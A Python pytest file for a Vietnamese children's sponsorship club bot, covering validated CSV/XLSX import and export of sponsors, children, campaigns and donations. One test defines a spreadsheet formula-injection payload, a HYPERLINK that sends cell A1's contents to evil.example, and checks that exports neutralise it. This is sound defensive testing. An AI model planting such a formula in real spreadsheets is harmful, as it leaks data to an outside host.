"""Staff import/export: validated, all or nothing, round-trips CSV and XLSX."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest
from sqlalchemy import func, select

from bot.club.database import session_scope
from bot.club.importer import DemoDataError, export_table, import_table
from bot.club.models import Campaign, Child, Donation, Sponsor, Sponsorship
from bot.club.seed import SEED_DIR, remove_demo, seed_if_empty
from bot.club.staff import StaffError, create_staff, verify_staff
from bot.club.tables import LOAD_ORDER, CellError

ROOT = Path(__file__).parents[2]


def count(url: str, model) -> int:
    with session_scope(url) as session:
        return session.scalar(select(func.count()).select_from(model))


def write(path: Path, text: str) -> Path:
    path.write_text(text.strip() + "\n", encoding="utf-8")
    return path


def test_bad_rows_are_reported_with_line_and_nothing_is_written(db_url, tmp_path):
    csv = write(
        tmp_path / "sponsors.csv",
        """
full_name,phone,email,messenger_id,zalo_id
Nguyễn An,0912 345 678,,,
Lê Bình,12345,,,
,0987654321,,,
Trần Chi,+84 903 111 222,,,
""",
    )
    result = import_table(db_url, "sponsors", csv)
    assert result.errors == [
        "line 3: column phone: '12345' is not a Vietnamese mobile number",
        "line 4: column full_name: a value is required",
    ]
    assert (result.created, count(db_url, Sponsor)) == (0, 0)


def test_numbers_are_read_as_written_or_refused(db_url, tmp_path):
    header = "name,synonyms,description,district,province,start_date,end_date,"
    header += "registration_deadline,capacity,requirements,cost,status"
    row = (
        "Chuyến {n},,Mô tả,Quan Sơn,Thanh Hóa,2027-07-01,2027-07-05,,{cap},,{cost},open"
    )
    rows = [
        row.format(n=1, cap='"1,5"', cost="0"),  # a decimal, not fifteen
        row.format(n=2, cap="3²", cost="0"),  # a superscript is no digit
        row.format(n=3, cap="30", cost="5²00000"),
        row.format(n=4, cap="1.200", cost="１２０.０００"),  # full-width digits
    ]
    csv = write(tmp_path / "campaigns.csv", "\n".join([header, *rows]))
    result = import_table(db_url, "campaigns", csv)
    assert result.errors == [
        "line 2: column capacity: '1,5' is not a whole number",
        "line 3: column capacity: '3²' is not a whole number",
        "line 4: column cost: '5²00000' is not a whole number",
    ]
    fixed = write(tmp_path / "ok.csv", "\n".join([header, rows[3]]))
    assert import_table(db_url, "campaigns", fixed).errors == []
    with session_scope(db_url) as session:
        campaign = session.scalars(select(Campaign)).one()
    assert (campaign.capacity, campaign.cost) == (1200, 120_000)


@pytest.mark.parametrize("code", ["AB12", "NE123", "NE01234", "XY0101"])
def test_only_child_codes_the_bot_can_look_up_are_imported(db_url, tmp_path, code):
    header = "code,given_name,birth_year,school,grade,district,needs,public_note,"
    header += "private_note,photo_path,status"
    line = f"{code},Mai,2016,Trường Na Mèo,Lớp 4,Quan Sơn,,,,,waiting"
    result = import_table(
        db_url, "children", write(tmp_path / "c.csv", header + "\n" + line)
    )
    assert result.errors == [
        f"line 2: column code: {code!r} is not a child code like NE0123"
    ]
    ok = line.replace(code, "ne 0101")
    assert (
        import_table(
            db_url, "children", write(tmp_path / "d.csv", header + "\n" + ok)
        ).errors
        == []
    )
    with session_scope(db_url) as session:
        assert session.scalars(select(Child.code)).all() == ["NE0101"]


def test_references_and_constraints_are_checked(db_url, tmp_path):
    seed_if_empty(db_url)
    before = count(db_url, Sponsorship)
    csv = write(
        tmp_path / "sponsorships.csv",
        """
child_code,sponsor_phone,monthly_amount,since,until
NE0104,0912345678,160k,2026-11-01,
NE9999,0912345678,160000,2026-11-01,
NE0101,0987654321,160000,2026-11-01,
NE0107,0912345678,-5,2026-11-01,
""",
    )
    result = import_table(db_url, "sponsorships", csv, allow_demo=True)
    assert (
        result.errors[0]
        == "line 3: column child_code: no children row with code 'NE9999'"
    )
    assert result.errors[1].startswith(
        "line 4: breaks a rule of the database"
    )  # NE0101 has one
    assert result.errors[2].startswith("line 5: column monthly_amount")
    assert count(db_url, Sponsorship) == before  # the good first row was not kept


def test_reimport_updates_by_natural_key(db_url, tmp_path):
    csv = write(
        tmp_path / "children.csv",
        """
code,given_name,birth_year,school,grade,district,needs,public_note,private_note,photo_path,status
ne0201,Sáu,2016,Trường A,Lớp 4,Quan Sơn,,,,,waiting
""",
    )
    assert import_table(db_url, "children", csv).created == 1
    csv.write_text(csv.read_text("utf-8").replace("Lớp 4", "Lớp 5"), encoding="utf-8")
    again = import_table(db_url, "children", csv)
    assert (again.created, again.updated) == (0, 1)
    with session_scope(db_url) as session:
        child = session.scalars(select(Child)).one()
    assert (child.code, child.grade) == ("NE0201", "Lớp 5")


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_round_trips(db_url, tmp_path, suffix):
    seed_if_empty(db_url)
    target = f"sqlite:///{tmp_path / 'copy.db'}"
    from bot.ops.schema import migrate

    migrate(target)
    for table in LOAD_ORDER:
        path = tmp_path / f"{table}{suffix}"
        exported = export_table(db_url, table, path)
        result = import_table(target, table, path)
        assert result.ok, result.errors
        assert result.created == exported
    with session_scope(target) as session:
        amounts = sorted(session.scalars(select(Donation.amount)))
    with session_scope(db_url) as session:
        assert amounts == sorted(session.scalars(select(Donation.amount)))


def test_unknown_table_and_file_type(db_url, tmp_path):
    with pytest.raises(CellError, match="unknown table"):
        import_table(db_url, "secrets", SEED_DIR / "funds.csv")
    with pytest.raises(CellError, match="only .csv and .xlsx"):
        import_table(db_url, "funds", write(tmp_path / "funds.txt", "code,name"))


def test_excels_unicode_text_is_read_and_undecodable_files_refused(db_url, tmp_path):
    """Excel's "Unicode text" (UTF-16, tabs) imports like a CSV; bytes that are
    not text and rows longer than the header are refused with a reason."""
    rows = "code\tname\nXAYTRUONG2\tXây trường Pả Vi\n"
    unicode_text = tmp_path / "funds.csv"
    unicode_text.write_bytes(rows.encode("utf-16"))  # with its byte-order mark
    assert import_table(db_url, "funds", unicode_text).created == 1
    latin = tmp_path / "latin.csv"
    latin.write_bytes("code,name\nQUY2,Qu\xfd\n".encode("latin-1"))
    with pytest.raises(CellError, match="not UTF-8 text; in Excel use Save As"):
        import_table(db_url, "funds", latin)
    broken = tmp_path / "broken.csv"  # a lone surrogate in its first line (fuzz)
    broken.write_bytes('code,"\ud800"\r\n'.encode("utf-16", "surrogatepass"))
    with pytest.raises(CellError, match="not UTF-16 text"):
        import_table(db_url, "funds", broken)
    long_row = write(tmp_path / "long.csv", "code,name\nQUY3,Quỹ ba,thừa,ô")
    result = import_table(db_url, "funds", long_row)
    assert result.errors == ["line 2: more cells than the header has columns: thừa,ô"]


def test_cli_import_reports_bad_rows_and_exit_code(tmp_path):
    url = f"sqlite:///{tmp_path / 'club.db'}"
    bad = write(tmp_path / "funds.csv", "code,name,description\nnuôi em!,Quỹ,\n")
    result = subprocess.run(
        [sys.executable, "-m", "bot", "import", "funds", str(bad)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "DATABASE_URL": url, "VAR_DIR": str(tmp_path)},
    )
    assert result.returncode == 1
    assert "line 2: column code" in result.stderr
    assert "nothing was imported" in result.stderr
    assert "Traceback" not in result.stderr


def test_staff_accounts(db_url, tmp_path):
    create_staff(db_url, "thu.ha", "mat-khau-dai-1")
    assert verify_staff(db_url, "thu.ha", "mat-khau-dai-1")
    assert not verify_staff(db_url, "thu.ha", "sai-mat-khau")
    with pytest.raises(StaffError, match="already exists"):
        create_staff(db_url, "thu.ha", "mat-khau-dai-2")
    with pytest.raises(StaffError, match="at least 10"):
        create_staff(db_url, "nam", "ngan")
    result = subprocess.run(
        [sys.executable, "-m", "bot", "create-staff", "an.nguyen", "--password-stdin"],
        cwd=ROOT,
        input="mot-mat-khau-dai\n",
        capture_output=True,
        text=True,
        timeout=60,
        env={"PATH": "/usr/bin:/bin", "DATABASE_URL": db_url, "VAR_DIR": str(tmp_path)},
    )
    assert result.returncode == 0, result.stderr
    assert verify_staff(db_url, "an.nguyen", "mot-mat-khau-dai")


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Xem sao kê")'


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_exports_never_carry_a_live_formula(db_url, tmp_path, suffix):
    seed_if_empty(db_url)
    header = "date,amount,fund_code,sponsor_phone,child_code,donor_name,memo,source,"
    header += "reference"
    quoted = FORMULA.replace('"', '""')
    line = f'2026-11-02,100000,XAYTRUONG,,,"@SUM(1+1)","{quoted}",bank,FT-X1'
    source = write(tmp_path / "in.csv", f"{header}\n{line}")
    imported = import_table(db_url, "donations", source, allow_demo=True)
    assert imported.ok, imported.errors
    path = tmp_path / f"donations{suffix}"
    export_table(db_url, "donations", path)
    if suffix == ".xlsx":
        from openpyxl import load_workbook

        sheet = load_workbook(path).worksheets[0]  # formulas as written
        cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
        assert cells and all(c.data_type == "s" for c in cells)
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    else:
        text = path.read_text("utf-8")
        assert "'=HYPERLINK" in text and "'@SUM" in text
        assert ",=" not in text and ",@" not in text
    again = f"sqlite:///{tmp_path / 'again.db'}"
    from bot.ops.schema import migrate

    migrate(again)
    for table in LOAD_ORDER:
        table_path = tmp_path / f"{table}{suffix}"
        if table != "donations":
            export_table(db_url, table, table_path)
        assert import_table(again, table, table_path).ok
    with session_scope(again) as session:
        memos = set(session.scalars(select(Donation.memo)))
    assert FORMULA in memos  # the text itself comes back unchanged


def test_demo_data_is_marked_and_real_data_does_not_mix_with_it(db_url, tmp_path):
    seed_if_empty(db_url)
    children = write(
        tmp_path / "children.csv",
        "code,given_name,birth_year,school,grade,district,needs,public_note,"
        "private_note,photo_path,status\n"
        "NE0101,Lan,2015,Trường thật,Lớp 5,Quan Sơn,,,,,waiting",
    )
    with pytest.raises(DemoDataError, match="--remove-demo"):
        import_table(db_url, "children", children)
    assert count(db_url, Sponsorship) > 0
    assert remove_demo(db_url) > 30
    for model in (Child, Sponsor, Sponsorship, Donation):
        assert count(db_url, model) == 0
    result = import_table(db_url, "children", children)
    assert result.ok and result.created == 1  # a new child, no inherited sponsor
    assert count(db_url, Sponsorship) == 0


def test_cli_import_into_demo_data_is_a_clear_error(tmp_path):
    url = f"sqlite:///{tmp_path / 'club.db'}"
    env = {**os.environ, "DATABASE_URL": url, "VAR_DIR": str(tmp_path)}
    subprocess.run(
        [sys.executable, "-m", "bot", "seed-demo"],
        env=env,
        check=True,
        capture_output=True,
    )
    funds = write(tmp_path / "funds.csv", "code,name,description\nMOI,Quỹ mới,")
    command = [sys.executable, "-m", "bot", "import", "funds", str(funds)]
    refused = subprocess.run(command, env=env, capture_output=True, text=True)
    assert refused.returncode == 1
    assert "demo club" in refused.stderr and "Traceback" not in refused.stderr
    done = subprocess.run(
        [*command, "--remove-demo"], env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    assert "demo rows removed" in done.stdout
